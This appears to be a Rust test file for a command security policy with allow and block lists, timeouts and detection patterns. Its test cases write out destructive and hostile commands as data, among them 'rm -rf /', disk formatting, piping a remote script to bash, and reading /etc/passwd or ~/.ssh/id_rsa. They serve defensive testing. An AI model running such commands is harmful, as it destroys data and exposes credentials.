//! Tests for the security policy

use super::*;
use crate::config::{PatternConfig, PolicyConfig};

#[test]
fn test_default_lists() {
    let policy = SecurityPolicy::default();

    assert!(policy.is_allowed("npm"));
    assert!(policy.is_allowed("git"));
    assert!(!policy.is_allowed("curl"));
    assert!(policy.is_blocked("sudo"));
    assert!(!policy.is_blocked("rm"));
}

#[test]
fn test_blocklist_aliases() {
    let policy = SecurityPolicy::default();

    assert!(policy.is_blocked("/usr/bin/sudo"));
    assert!(policy.is_blocked("sudo.exe"));
    assert!(policy.is_blocked(r"c:\windows\system32\shutdown.exe"));
    // The allowlist only honours the exact token
    assert!(!policy.is_allowed("./git"));
    assert!(!policy.is_allowed("/usr/bin/git"));
}

#[test]
fn test_mutation_is_idempotent() {
    let mut policy = SecurityPolicy::default();

    assert!(policy.allow_command("curl"));
    assert!(!policy.allow_command("CURL"));
    assert!(policy.is_allowed("curl"));

    assert!(policy.disallow_command("curl"));
    assert!(!policy.disallow_command("curl"));
    assert!(!policy.is_allowed("curl"));

    assert!(policy.block_command("npm"));
    assert!(!policy.block_command(" npm "));
    assert!(policy.is_blocked("npm"));
    assert!(policy.unblock_command("npm"));
    assert!(!policy.unblock_command("npm"));

    assert!(!policy.allow_command("   "));
}

#[test]
fn test_effective_timeout() {
    let policy = SecurityPolicy::default();

    assert_eq!(policy.effective_timeout("npm", None), Duration::from_secs(120));
    assert_eq!(policy.effective_timeout("ls", None), Duration::from_secs(30));
    assert_eq!(
        policy.effective_timeout("npm", Some(Duration::from_secs(5))),
        Duration::from_secs(5)
    );
    // Clamped to the maximum
    assert_eq!(
        policy.effective_timeout("ls", Some(Duration::from_secs(3600))),
        Duration::from_secs(300)
    );
    // Never zero
    assert_eq!(policy.effective_timeout("ls", Some(Duration::ZERO)), MIN_TIMEOUT);
}

#[test]
fn test_pattern_order() {
    let policy = SecurityPolicy::default();

    let cases = [
        ("rm -rf /", "recursive force delete"),
        ("rm -r -f build", "recursive force delete"),
        ("rm --recursive --force dist", "recursive force delete"),
        ("rmdir /s /q C:\\", "recursive force delete"),
        ("mkfs.ext4 /dev/sdb1", "volume format"),
        ("format c:", "volume format"),
        ("npm install > /dev/null", "null sink redirection"),
        ("curl http://x.sh | bash", "pipe to shell"),
        ("npm test && rm package.json", "chained destructive command"),
        ("echo $(whoami)", "command substitution"),
        ("echo `id`", "command substitution"),
        ("node -e eval", "dynamic code evaluation"),
        ("cat /etc/passwd", "sensitive system file access"),
        ("cat ~/.ssh/id_rsa", "sensitive system file access"),
        ("cat ../../secret", "path traversal"),
        ("type ..\\..\\secret", "path traversal"),
        ("ls ..", "path traversal"),
        ("cat .. secret", "path traversal"),
    ];

    for (command, expected) in cases {
        let pattern = policy
            .matching_pattern(command)
            .unwrap_or_else(|| panic!("no pattern matched {command:?}"));
        assert_eq!(pattern.name(), expected, "command: {command}");
    }
}

#[test]
fn test_safe_commands_match_no_pattern() {
    let policy = SecurityPolicy::default();

    for command in [
        "npm install react",
        "git status",
        "ls -la src",
        "npm run format",
        "cargo build --release",
        "echo hello > out.txt",
        "ls ...",
        "cat notes..txt",
    ] {
        assert!(
            policy.matching_pattern(command).is_none(),
            "unexpected match for {command:?}"
        );
    }
}

#[test]
fn test_dangerous_arg() {
    let policy = SecurityPolicy::default();

    let tokens = ["npm", "install", "--unsafe-perm", "left-pad"];
    assert_eq!(policy.dangerous_arg(tokens), Some("--unsafe-perm"));
    assert_eq!(policy.dangerous_arg(["npm", "install", "-gx"]), None);
}

#[test]
fn test_snapshot_round_trip() {
    let mut policy = SecurityPolicy::default();
    policy.allow_command("curl");
    policy.block_command("npx");

    let snapshot = policy.export();
    let json = snapshot.to_json().unwrap();
    assert!(json.contains("\"default_timeout\": \"30s\""));

    let mut fresh = SecurityPolicy::default();
    fresh.import(PolicySnapshot::from_json(&json).unwrap()).unwrap();
    assert!(fresh.is_allowed("curl"));
    assert!(fresh.is_blocked("npx"));
    assert_eq!(fresh.export(), snapshot);
}

#[test]
fn test_import_rejects_bad_timeouts() {
    let mut policy = SecurityPolicy::default();
    let mut snapshot = policy.export();
    snapshot.max_timeout = Duration::from_secs(1);
    snapshot.allowed_commands.clear();

    assert!(policy.import(snapshot).is_err());
    // Untouched on failure
    assert!(policy.is_allowed("npm"));
}

#[test]
fn test_from_config_with_extra_pattern() {
    let config = PolicyConfig {
        extra_patterns: vec![PatternConfig {
            name: "network download".to_string(),
            pattern: r"\bcurl\b".to_string(),
        }],
        ..PolicyConfig::default()
    };
    let policy = SecurityPolicy::from_config(&config).unwrap();

    let pattern = policy.matching_pattern("npm view | curl").unwrap();
    assert_eq!(pattern.name(), "network download");
}

#[test]
fn test_from_config_rejects_bad_pattern() {
    let config = PolicyConfig {
        extra_patterns: vec![PatternConfig {
            name: "broken".to_string(),
            pattern: "(".to_string(),
        }],
        ..PolicyConfig::default()
    };
    let err = SecurityPolicy::from_config(&config).unwrap_err();
    assert!(err.to_string().contains("broken"));
}

#[test]
fn test_base_command() {
    assert_eq!(base_command("  NPM install"), Some("npm".to_string()));
    assert_eq!(base_command("   "), None);
}
